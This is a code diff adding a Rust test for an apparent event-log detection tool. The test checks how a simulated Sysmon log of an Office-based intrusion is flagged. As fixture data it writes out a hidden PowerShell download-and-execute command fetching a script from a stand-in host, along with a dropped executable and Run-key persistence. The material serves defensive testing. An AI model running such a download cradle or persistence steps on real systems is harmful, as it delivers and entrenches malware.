@@ -406,3 +406,151 @@ fn damaged_logs_cost_only_their_damage() {
         [hit("office_child", 1500, "high")]
     );
 }
+
+/// The rows of `file`, in record order (then rule), as (data type, rule id, record number).
+fn rows_of(file: &str) -> Vec<&'static Value> {
+    let mut rows: Vec<&Value> = evtx_scan()
+        .rows
+        .iter()
+        .filter(|r| r["source_path"] == file)
+        .collect();
+    rows.sort_by_key(|r| {
+        (
+            r["record_number"].as_u64(),
+            r["rule_id"].as_str().map(str::to_owned),
+        )
+    });
+    rows
+}
+
+#[test]
+fn process_tree_below_a_flagged_office_child() {
+    let file = "positive/sysmon-office-tree.evtx";
+    let guid = |n: u32| format!("{{b2796a13-4d21-65e5-0000-000000000{n:03x}}}");
+    let (b, c, d) = (guid(0xc03), guid(0xc04), guid(0xc05));
+    let rows = rows_of(file);
+    let summary: Vec<(u64, &str, &str, &str)> = rows
+        .iter()
+        .map(|r| {
+            (
+                r["record_number"].as_u64().unwrap(),
+                r["data_type"].as_str().unwrap(),
+                r["rule_id"].as_str().unwrap_or("-"),
+                r["severity"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    let tree = "ddesweep.eventlog.office_tree_activity";
+    let descendant = "ddesweep.eventlog.office_descendant";
+    assert_eq!(
+        summary,
+        [
+            (2, "ddesweep:eventlog:attachment_saved", "-", "info"),
+            (3, "ddesweep:eventlog:office_document_open", "-", "info"),
+            (
+                4,
+                "ddesweep:eventlog:process_start",
+                "ddesweep.eventlog.office_child",
+                "critical"
+            ),
+            (5, "ddesweep:eventlog:process_start", descendant, "critical"),
+            (6, "ddesweep:eventlog:dns_query", tree, "medium"),
+            (7, "ddesweep:eventlog:network_connection", tree, "medium"),
+            (8, "ddesweep:eventlog:file_create", tree, "medium"),
+            (9, "ddesweep:eventlog:registry_change", tree, "medium"),
+            (10, "ddesweep:eventlog:process_start", descendant, "high"),
+        ],
+        "noise (records 1, 11, 12) gives no row, and no record gives two"
+    );
+
+    let saved = rows[0];
+    let attachment = r"C:\Users\dave\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3ZK81PD\Remittance_May.docx";
+    assert_eq!(
+        saved["message"],
+        format!("OUTLOOK.EXE saved e-mail attachment {attachment}")
+    );
+    assert_eq!(saved["document"], attachment);
+    assert_eq!(saved["target_file"], attachment);
+    assert_eq!(saved["process_guid"], guid(0xc01));
+    assert_eq!(saved["process_id"], 2980);
+    assert_eq!(saved["user"], r"CORP\dave");
+    let tags = saved["tag"].as_array().unwrap();
+    assert!(
+        tags.contains(&Value::from("context")) && tags.contains(&Value::from("email_attachment"))
+    );
+
+    let ps = rows[3];
+    let ps_command = "powershell  -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";
+    assert_eq!(
+        ps["message"].as_str().unwrap().split(" [").next(),
+        Some(
+            format!("cmd.exe (started by WINWORD.EXE) started powershell.exe: {ps_command}")
+                .as_str()
+        )
+    );
+    assert!(
+        ps["message"].as_str().unwrap().contains("(record 4)"),
+        "{ps}"
+    );
+    assert_eq!(ps["command"], ps_command);
+    assert_eq!(ps["process_guid"], c);
+    assert_eq!(ps["process_id"], 6120);
+    assert_eq!(ps["parent_process_guid"], b);
+    assert_eq!(ps["parent_process_id"], 5230);
+    assert_eq!(ps["parent_image"], r"C:\Windows\System32\cmd.exe");
+    assert_eq!(ps["user"], r"CORP\dave");
+    assert_eq!(ps["logon_id"], "0x3e5a1");
+    assert!(ps["markers"].as_str().unwrap().contains("downloadstring"));
+    assert_eq!(ps["channel"], "Microsoft-Windows-Sysmon/Operational");
+    assert_eq!(ps["computer_name"], "WS-ALICE.corp.example");
+    assert!(
+        ps["xml_string"]
+            .as_str()
+            .unwrap()
+            .contains("<EventID>1</EventID>")
+    );
+
+    let dns = rows[4];
+    assert_eq!(dns["destination_hostname"], "remit-portal.example");
+    assert_eq!(dns["value"], "::ffff:203.0.113.77;");
+    assert_eq!(dns["process_guid"], c);
+    assert_eq!(
+        dns["image"],
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+    );
+    assert_eq!(dns["event_identifier"], 22);
+    assert_eq!(dns["logon_id"], "0x3e5a1");
+    let net = rows[5];
+    assert_eq!(net["destination"], "203.0.113.77:80");
+    assert_eq!(net["destination_hostname"], "remit-portal.example");
+    assert_eq!(net["process_id"], 6120);
+    let created = rows[6];
+    let remitsync = r"C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe";
+    assert_eq!(created["target_file"], remitsync);
+    assert_eq!(created["process_guid"], c);
+    assert_eq!(created["user"], r"CORP\dave");
+    let run = rows[7];
+    assert_eq!(
+        run["registry_key"],
+        r"HKU\S-1-5-21-1111111111-2222222222-3333333333-1107\Software\Microsoft\Windows\CurrentVersion\Run\RemitSync"
+    );
+    assert_eq!(run["value"], remitsync);
+    assert_eq!(run["process_guid"], c);
+    let remit = rows[8];
+    assert_eq!(remit["process_guid"], d);
+    assert_eq!(remit["parent_process_guid"], c);
+    assert_eq!(remit["image"], remitsync);
+    assert!(
+        remit["message"]
+            .as_str()
+            .unwrap()
+            .starts_with("powershell.exe (started by cmd.exe) started remitsync.exe: ")
+    );
+
+    let account = &evtx_scan().artifact(file)["eventlog"];
+    assert_eq!(account["tree_roots"], 1);
+    assert_eq!(account["tree_descendants"], 2);
+    assert_eq!(account["tree_activity_rows"], 4);
+    assert_eq!(account["tree_nodes_cut_off"], 0);
+    assert_eq!(account["records_read"], 12);
+}
